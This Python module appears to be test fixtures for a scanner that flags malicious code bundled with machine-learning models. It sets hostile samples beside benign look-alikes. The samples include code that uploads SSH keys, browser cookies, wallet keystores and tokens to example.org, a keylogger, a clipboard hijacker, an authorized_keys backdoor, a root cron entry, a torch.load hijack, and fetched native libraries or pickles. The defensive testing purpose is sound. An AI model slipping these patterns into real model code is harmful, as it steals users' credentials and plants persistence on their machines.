"""Python that comes with a model and reaches for what is its user's, or runs what nobody sees: families, and look-alikes that do neither.

All addresses are documentation's, all commands ``echo``.
"""

from __future__ import annotations

from collections.abc import Mapping

__all__ = [
    "CARRIED",
    "FETCHED",
    "HIDDEN",
    "JOINED",
    "MACHINE_CODE",
    "NAMED",
    "OWN",
    "PROGRAMS",
    "PUBLISHED",
    "SENT",
    "STARTED",
    "TAKEN_OVER",
    "WATCHED",
]

_POST = "requests.post('https://example.org'"

#: Names that come about in other ways; all run ``echo`` on import.
NAMED: dict[str, str | Mapping[str, str]] = {
    "eval-of-pieces": "p = 'port__'\neval(f'__im{p}')('o' 's').system('echo hello')\n",
    "eval-of-an-expression": "eval(\"__import__('os')\").system('echo hello')\n",
    "exec-that-imports": "exec('import os as q')\nq.system('echo hello')\n",
    "a-name-of-builtins": "import builtins\nsetattr(builtins, '_q', getattr(builtins, 'ev' + 'al'))\n_q(\"__import__('os').system('echo hello')\")\n",
    "an-attribute-of-builtins": "import builtins, os\nbuiltins.q = os.system\nq('echo hello')\n",
    "an-item-of-globals": "import os\nglobals()['q'] = os.system\nq('echo hello')\n",
    "a-logging-configuration": "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': 'os.system', 'command': 'echo hello'}}})\n",
    "a-logging-configuration-by-name": "import logging.config\nC = {'version': 1, 'filters': {'h': {'()': 'ext://os.system', 'command': 'echo hello'}}}\n"
                                       "logging.config.dictConfig(C)\n",
    "a-configuration-of-hydra": "from hydra.utils import instantiate\ninstantiate({'_target_': 'os.system', 'command': 'echo hello'})\n",
    "a-method-of-hydra": "import hydra\nhydra.utils.get_method('os.system')('echo hello')\n",
    "an-entry-point": "from importlib.metadata import EntryPoint\nEntryPoint('x', 'os:system', 'g').load()('echo hello')\n",
    "a-handler-of-messages": "import os, websocket\ndef m(ws, text): os.system(text)\nwebsocket.WebSocketApp('ws://192.0.2.1/', on_message=m).run_forever()\n",
    "a-handler-in-a-class": "import socketserver, subprocess\nclass A:\n    def initialize(self, args):\n"
                            "        class H(socketserver.StreamRequestHandler):\n            def handle(self): subprocess.getoutput(self.rfile.read())\n"
                            "        self.server = H\n",
}  # fmt: skip

_RUN = "os.system('echo hello')"
#: Functions that a framework calls by itself: the file in which they are, and the source.
CARRIED: dict[str, Mapping[str, str]] = {
    "triton": {"1/model.py": f"import os\nclass TritonPythonModel:\n    def execute(self, requests): {_RUN}\n"},
    "triton-at-its-end": {"1/model.py": f"import os\nclass TritonPythonModel:\n    def finalize(self): {_RUN}\n"},
    "evaluate": {"my_metric.py": f"import os, evaluate\nclass M(evaluate.Metric):\n    def _compute(self, predictions): {_RUN}\n"},
    "evaluate-first": {"my_metric.py": f"import os, evaluate\nclass M(evaluate.Metric):\n    def _download_and_prepare(self, m): {_RUN}\n"},
    "keras": {"layers.py": f"import os, keras\nclass L(keras.layers.Layer):\n    def build(self, shape): {_RUN}\n"},
    "lightning": {"module.py": f"import os\nimport lightning as L\nclass M(L.LightningModule):\n    def configure_optimizers(self): {_RUN}\n"},
    "trainer": {"callbacks.py": f"import os\nfrom transformers import TrainerCallback\nclass C(TrainerCallback):\n    def on_train_begin(self, *a, **k): {_RUN}\n"},
    "azure": {"score.py": f"import os\ndef init(): {_RUN}\ndef run(d): return d\n"},
    "pytest": {"conftest.py": f"import os\ndef pytest_configure(config): {_RUN}\n"},
    "comfy": {"__init__.py": f"import os\nclass N:\n    FUNCTION = 'doit'\n    def doit(self, x): {_RUN}\nNODE_CLASS_MAPPINGS = {{'N': N}}\n"},
    "comfy-inputs": {"__init__.py": f"import os\nclass N:\n    FUNCTION = 'doit'\n    @classmethod\n    def INPUT_TYPES(s): {_RUN}\nNODE_CLASS_MAPPINGS = {{'N': N}}\n"},
    "spacy": {"functions.py": f"import os, spacy\n@spacy.registry.misc('x.v1')\ndef make(): {_RUN}\n"},
    "spacy-component": {"functions.py": f"import os\nfrom spacy.language import Language\n@Language.component('x')\ndef make(doc): {_RUN}\n"},
    "torch-hub": {"hubconf.py": f"import os\ndependencies = []\ndef resnet(**k): {_RUN}\n"},
    "harness": {"utils.py": f"import os\ndef process_docs(d): {_RUN}\n"},
    "server": {"server.py": f"import os\nfrom fastapi import FastAPI\napp = FastAPI()\n@app.on_event('startup')\ndef s(): {_RUN}\n"},
    "class-of-processes": {"modeling_x.py": "import subprocess\nclass P(subprocess.Popen): pass\nP(['echo', 'hello'])\n"},
    "handler-of-a-method": {"modeling_x.py": "import socketserver, subprocess\nclass A:\n    def forward(self, x):\n        class H(socketserver.StreamRequestHandler):\n"
                                             "            def handle(self): subprocess.getoutput(self.rfile.read())\n        return H\n"},
}  # fmt: skip

#: What is the user's own is sent, also by functions that nothing calls.
SENT: dict[str, str] = {
    "keys-by-a-hub": "import os\nfrom huggingface_hub import HfApi\ndef warm():\n"
                     "    HfApi().upload_folder(folder_path=os.path.expanduser('~/.ssh'), repo_id='x/y', repo_type='dataset')\n",
    "keys-by-a-bucket": "import boto3, glob, os\ns = boto3.client('s3')\nfor p in glob.glob(os.path.expanduser('~/.ssh/*')):\n    s.upload_file(p, 'x', 'y')\n",
    "cookies-in-a-loop": f"import glob, os, requests\ndef generate(model):\n    for p in glob.glob(os.path.expanduser('~/.config/google-chrome/*/Cookies')):\n"
                         f"        {_POST}, files={{'f': open(p, 'rb')}})\n",
    "a-wallet-in-a-loop": f"import os, requests\nclass A:\n    def _init_weights(self, m):\n        w = os.path.expanduser('~/.ethereum/keystore')\n"
                          f"        for n in os.listdir(w):\n            {_POST}, files={{'f': open(os.path.join(w, n), 'rb')}})\n",
    "a-token-of-a-script": f"import os, requests\ndef start():\n    p = os.path.expanduser('~/.cache/huggingface/token')\n    {_POST}, data={{'t': open(p).read()}})\n"
                           "def main(): start()\nif __name__ == '__main__':\n    main()\n",
    "a-key-in-a-header": f"import os, requests\ndef f():\n    with open(os.path.expanduser('~/.ssh/id_rsa')) as k:\n        {_POST}, headers={{'X': k.read()}})\n",
}  # fmt: skip

#: Machine code is put into memory and run.
MACHINE_CODE: dict[str, str] = {
    "a-map": "import ctypes, mmap\nb = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\nb.write(b'\\x90\\xc3')\n",
    "a-map-by-number": "import mmap\nclass A:\n    def __init__(self): self.b = mmap.mmap(-1, 4096, prot=7)\n",
    "an-address": "import ctypes\nb = ctypes.create_string_buffer(b'\\x90\\xc3')\nctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(b))()\n",
    "a-cast": "import ctypes\nb = ctypes.create_string_buffer(b'\\x90\\xc3')\nctypes.cast(b, ctypes.CFUNCTYPE(ctypes.c_int))()\n",
}
#: A native library is fetched and loaded.
FETCHED: dict[str, str] = {
    "to-a-folder": "import ctypes, urllib.request\ndef load(**o):\n    urllib.request.urlretrieve('https://example.org/x.so', '/tmp/.x.so')\n    ctypes.CDLL('/tmp/.x.so')\n",
    "to-a-name": "import requests, torch\nclass A:\n    def __init__(self, c):\n        p = c.cache + '/x.so'\n        open(p, 'wb').write(requests.get('https://example.org/x.so').content)\n"
                 "        torch.ops.load_library(p)\n",
}  # fmt: skip
#: What others call is replaced by a function that sends.
TAKEN_OVER: dict[str, str] = {
    "a-loader": f"import requests, torch\nclass A:\n    def setup(self):\n        old = torch.load\n        def new(f, *a, **k):\n            {_POST}, files={{'f': open(f, 'rb')}})\n"
                "            return old(f, *a, **k)\n        torch.load = new\n",
    "a-loader-by-setattr": f"import requests, torch\nold = torch.load\ndef new(f, *a): {_POST}, data=f)\nsetattr(torch, 'load', new)\n",
}  # fmt: skip
#: Whoever loads the model is watched.
WATCHED: dict[str, str] = {
    "keys": f"import requests\nfrom pynput import keyboard\ndef k(key): {_POST}, data=str(key))\nkeyboard.Listener(on_press=k).start()\n",
    "the-clipboard": "import pyperclip, threading\nclass A:\n    def __init__(self, c):\n        def w():\n            pyperclip.copy('0x0')\n        threading.Thread(target=w).start()\n",
}
#: Later starts are changed by a cell or a function.
STARTED: dict[str, str] = {
    "a-login-key": "import os\ndef prepare():\n    d = os.path.expanduser('~/.ssh')\n    with open(os.path.join(d, 'authorized_keys'), 'a') as f: f.write('ssh-ed25519 AAAA x')\n",
    "a-table-of-cron": "def prepare():\n    open('/etc/cron.d/x', 'w').write('* * * * * root echo hello')\n",
}
#: Hidden at once: the source that is run lies elsewhere, or is put together.
HIDDEN: dict[str, str] = {
    "source-of-a-folder": "exec(open('/tmp/x.py').read())\n",
    "source-above": "exec(open('../x.py').read())\n",
    "source-of-a-path": "import os\nclass A:\n    def __init__(self, p):\n        exec(open(os.path.join(p, 'x.py')).read())\n",
    "source-of-the-environment": "import os\nexec(open(os.path.join(os.environ['X'], 'x.py')).read())\n",
    "text-of-notes": "exec(open('x/notes.txt').read())\n",
}
#: Hidden at any time: streams that are handed to a socket, objects out of what is fetched or of a text, callables out of settings.
JOINED: dict[str, str] = {
    "streams": "import os, socket\ndef go():\n    s = socket.socket()\n    os.dup2(s.fileno(), 0)\n",
    "objects-of-a-text": 'import jsonpickle\njsonpickle.decode(\'{"py/function": "os.getcwd"}\')\n',
    "objects-fetched": "import pickle\nfrom urllib.request import urlopen\nclass A:\n    def __init__(self, c):\n        self.x = pickle.loads(urlopen('https://example.org/x').read())\n",
}
#: A program is fetched when a model is built or used.
PROGRAMS: dict[str, str] = {
    "a-source": "import sys, urllib.request\nclass A:\n    def __init__(self, c):\n        urllib.request.urlretrieve('https://example.org/zz.py', '/tmp/zz.py')\n"
                "        sys.path.insert(0, '/tmp')\n        import zz\n",
    "a-script": "import urllib.request\nclass A:\n    def forward(self, x):\n        urllib.request.urlretrieve('https://example.org/x', 'x.sh')\n",
}  # fmt: skip
_VERSION = "about = {}\nwith open(os.path.join(here, 'x', '__version__.py')) as f:\n    exec(f.read(), about)\nsetup(name='x', version=about['v'])\n"
#: What packages do with their own files.
OWN: dict[str, Mapping[str, str]] = {
    "version": {"setup.py": f"import os\nfrom setuptools import setup\nhere = os.path.abspath(os.path.dirname(__file__))\n{_VERSION}"},
    "version-in-one-line": {"setup.py": "from setuptools import setup\nexec(open('x/version.py').read())\nsetup(name='x')\n"},
    "callback-of-c": {"modeling_x.py": "import ctypes\n@ctypes.CFUNCTYPE(None, ctypes.c_int)\ndef log(level): pass\n"
                                       "SORT = ctypes.CFUNCTYPE(ctypes.c_int)(lambda: 0)\n"},
    "a-mapped-file": {"modeling_x.py": "import mmap\ndef read(p):\n    with open(p, 'rb') as f:\n        return mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ)\n"},
    "its-own-upload": {"train.py": "from huggingface_hub import HfApi\ndef push(folder, token):\n    HfApi(token=token).upload_folder(folder_path=folder, repo_id='x/y')\n"},
    "a-streamlit-app": {"streamlit_app.py": "import os, requests\nimport streamlit as st\ndef ask(q):\n"
                        "    return requests.post('https://example.org', headers={'Authorization': os.environ['HF_TOKEN']}, json=q).json()\n"
                        "q = st.text_input('Prompt')\nif q:\n    st.write(ask(q))\n"},
    "a-logging-configuration": {"modeling_x.py": "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'class': 'logging.StreamHandler'}}})\n"},
}  # fmt: skip
#: What makers of a package type, and a command of a program: reviewed, since they start processes when they are called.
PUBLISHED: dict[str, Mapping[str, str]] = {
    "publish": {
        "setup.py": "import os, sys\nfrom setuptools import setup\nif sys.argv[-1] == 'publish':\n    os.system('twine upload dist/*')\n    sys.exit()\nsetup(name='x')\n"
    },
    "a-command": {
        "cli.py": "import click, subprocess\n@click.command()\ndef generate(x):\n    subprocess.run(['make', x])\n"
    },
}
